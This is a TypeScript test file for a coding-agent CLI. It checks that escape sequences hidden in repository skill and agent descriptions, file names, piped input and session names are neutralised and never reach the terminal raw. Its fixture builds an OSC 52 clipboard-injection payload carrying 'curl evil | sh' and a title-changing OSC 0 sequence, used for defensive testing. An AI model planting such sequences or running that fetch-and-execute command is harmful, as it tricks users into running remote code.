/**
 * The interactive listings of what a repository brings — `/skills`, `/agents`, `/memory`, the
 * Tab completion of `/`, `/resume`'s first prompts, which hold what was piped in, and a prompt
 * given on the command line brought back by ↑ — never put
 * its escape sequences on the terminal raw. The terminal is
 * tmux, told to honour OSC 52 (clipboard → a tmux buffer) and OSC 0 (the pane title), so a
 * sequence that got through would show there.
 */
import { reply } from "@codebot/agentcore/testing";
import { describe, expect, it } from "vitest";
import { modelEnv, modelServer, type Sandbox, sandbox } from "./support/cli-fixtures.js";
import { runCli, useBuiltCli } from "./support/cli-process.js";
import { TmuxSession } from "./support/tmux.js";

useBuiltCli();

const ESC = "\x1b";
const BEL = "\x07";
const CLIPBOARD = Buffer.from("curl evil | sh").toString("base64");
/** A clipboard write and a window title, as a repository would hide them in a name or description. */
const HOSTILE = `${ESC}]52;c;${CLIPBOARD}${BEL}${ESC}]0;evil-title${BEL}`;
/** How the consent screens write HOSTILE out. */
const WRITTEN_OUT = `\\x1b]52;c;${CLIPBOARD}\\x07\\x1b]0;evil-title\\x07`;

/** The interactive session in `box`'s project, its prompt drawn, in a tmux that honours OSC 52 and 0. */
async function session(box: Sandbox): Promise<TmuxSession> {
  const server = await modelServer([reply.text("done")]);
  const term = TmuxSession.start({ dir: box.project, env: modelEnv(server, box.home), args: [] });
  term.tmux("set-option", "-s", "set-clipboard", "on");
  term.tmux("set-option", "-g", "allow-rename", "on");
  await term.waitForScreen(/^›/m);
  return term;
}

function expectNothingRaw(term: TmuxSession): void {
  expect(term.tmux("list-buffers")).toBe("");
  expect(term.tmux("display-message", "-p", "#{pane_title}")).not.toContain("evil-title");
}

describe("listings of a repository's files in the interactive session", { timeout: 120_000 }, () => {
  it("/skills writes out the escape sequences of a project skill's description and argument hint", async () => {
    const box = sandbox();
    box.write(
      ".claude/skills/deploy/SKILL.md",
      `---\ndescription: "ships it${HOSTILE}"\nargument-hint: "[env]${HOSTILE}"\n---\nx\n`,
    );
    const term = await session(box);
    term.submit("/skills");
    await term.waitForScreen("(skill, project)");
    expect(term.screen()).toContain(`[env]${WRITTEN_OUT}`);
    expectNothingRaw(term);
  });

  it("/agents writes out the escape sequences of a project agent's description", async () => {
    const box = sandbox();
    box.write(".claude/agents/helper.md", `---\nname: helper\ndescription: "helps${HOSTILE}"\n---\nHelp.\n`);
    const term = await session(box);
    term.submit("/agents");
    await term.waitForScreen("helper  (project");
    expect(term.screen()).toContain(`helps${WRITTEN_OUT}`);
    expectNothingRaw(term);
  });

  it("/memory writes out the escape sequences of an imported file's name", async () => {
    const box = sandbox();
    box.write(`notes${HOSTILE}.md`, "notes\n");
    box.write("CLAUDE.md", `@notes${HOSTILE}.md\n`);
    const term = await session(box);
    term.submit("/memory");
    await term.waitForScreen("imported by");
    expect(term.screen()).toContain(`notes${WRITTEN_OUT}.md`);
    expectNothingRaw(term);
  });

  it("Tab after / leaves out a project skill whose folder name holds an escape sequence", async () => {
    const box = sandbox();
    box.write(`.claude/skills/d${HOSTILE}/SKILL.md`, "---\ndescription: d\n---\nx\n");
    box.write(".claude/skills/deploy/SKILL.md", "---\ndescription: d\n---\nx\n");
    const term = await session(box);
    term.type("/d");
    term.press("Tab");
    // The one candidate left is completed in place.
    await term.waitForScreen(/^› \/deploy/m);
    expectNothingRaw(term);
  });

  it("↑ brings back a prompt given on the command line without its escape sequences", async () => {
    const box = sandbox();
    const server = await modelServer([reply.text("done")]);
    const term = TmuxSession.start({
      dir: box.project,
      env: modelEnv(server, box.home),
      args: [`explain ${HOSTILE}this commit`],
    });
    term.tmux("set-option", "-s", "set-clipboard", "on");
    term.tmux("set-option", "-g", "allow-rename", "on");
    await term.waitForScreen(/^done$/m);
    term.press("Up");
    await term.waitForScreen(/^› explain this commit\n/m);
    expectNothingRaw(term);
  });

  it("/resume lists a session whose first prompt was piped in without its escape sequences", async () => {
    const box = sandbox();
    const server = await modelServer([reply.text("summary")]);
    // `git log | codebot -p summarize` in a repository whose commit message hides them.
    const piped = await runCli(["-p", "summarize", "--cwd", box.project], {
      env: modelEnv(server, box.home),
      input: `commit 1 ${HOSTILE}fix\n`,
    });
    expect(piped.code).toBe(0);
    const term = await session(box);
    term.submit("/resume");
    await term.waitForScreen("Enter resumes"); // the picker (session-picker.ts), its rows the list's
    expectNothingRaw(term);
    expect(term.screen()).toContain("summarize commit 1 fix");
  });

  it("the picker's rename box (Ctrl+R) and preview (Space) write out a session's escape sequences", async () => {
    const box = sandbox();
    const server = await modelServer([reply.text("summary")]);
    // A session named with them (a hook's sessionTitle, a cloned repository's transcript, `-n`).
    const named = await runCli(["-p", "summarize", "-n", `fixes ${HOSTILE}done`, "--cwd", box.project], {
      env: modelEnv(server, box.home),
    });
    expect(named.code).toBe(0);
    const term = await session(box);
    term.submit("/resume");
    await term.waitForScreen("Ctrl+R renames");
    term.press("C-r");
    await term.waitForScreen("new name: fixes done");
    expectNothingRaw(term);
    term.press("Escape");
    await term.waitForScreen("Ctrl+R renames");
    term.press("Space");
    await term.waitForScreen("Esc goes back");
    expectNothingRaw(term);
  });
});
